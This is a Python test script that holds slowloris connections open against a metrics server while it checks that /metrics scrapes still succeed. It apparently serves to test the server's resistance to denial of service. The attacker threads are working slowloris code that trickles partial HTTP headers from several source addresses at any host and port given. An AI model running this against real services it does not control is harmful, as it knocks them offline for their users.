#!/usr/bin/env python3
"""Scrape /metrics while slowloris clients hold connections open.

usage: slowloris.py HOST:PORT NCLIENTS ADDRS NSCRAPES
  NCLIENTS connections from the source addresses ADDRS (comma-separated,
  taken in turn, e.g. 127.0.0.2 or 127.0.0.2-127.0.0.21) each send a request
  line and then one header byte every 0.5 s, never ending the head; one
  that is closed reconnects at once.  Meanwhile NSCRAPES scrapes from the
  default address, 0.1 s apart, each with a 3 s time-out, are parsed with
  prometheus_client.  Prints "scrapes OK/N attackers-connected C".
"""
import socket
import sys
import threading
import time
import urllib.request

from prometheus_client.parser import text_string_to_metric_families

host, port = sys.argv[1].rsplit(":", 1)
port = int(port)
nclients = int(sys.argv[2])
spec = sys.argv[3]
nscrapes = int(sys.argv[4])
if "-" in spec:
    a, b = spec.split("-")
    pre = a.rsplit(".", 1)[0]
    addrs = [pre + "." + str(i) for i in range(int(a.rsplit(".", 1)[1]), int(b.rsplit(".", 1)[1]) + 1)]
else:
    addrs = spec.split(",")

stop = threading.Event()
connected = [0]
lock = threading.Lock()


def attacker(k):
    src = addrs[k % len(addrs)]
    while not stop.is_set():
        try:
            s = socket.socket()
            s.bind((src, 0))
            s.settimeout(2)
            s.connect((host, port))
            s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
            with lock:
                connected[0] += 1
            try:
                while not stop.is_set():
                    s.sendall(b"X")
                    stop.wait(0.5)
            finally:
                with lock:
                    connected[0] -= 1
        except OSError:
            stop.wait(0.05)
        finally:
            s.close()


threads = [threading.Thread(target=attacker, args=(k,), daemon=True) for k in range(nclients)]
for t in threads:
    t.start()
# the attack is in place before the first scrape
deadline = time.time() + 10
while time.time() < deadline and connected[0] < min(nclients, 8):
    time.sleep(0.05)
held = connected[0]
ok = 0
url = "http://%s:%d/metrics" % (host, port)
for i in range(nscrapes):
    try:
        body = urllib.request.urlopen(url, timeout=3).read().decode()
        fams = list(text_string_to_metric_families(body))
        if any(f.name == "recfsd_scans" or f.name == "recfsd_scans_total" for f in fams):
            ok += 1
    except Exception as e:  # noqa: BLE001 - any failure is a failed scrape
        print("scrape %d: %s" % (i, e), file=sys.stderr)
    time.sleep(0.1)
stop.set()
print("scrapes %d/%d attackers-connected %d" % (ok, nscrapes, held))
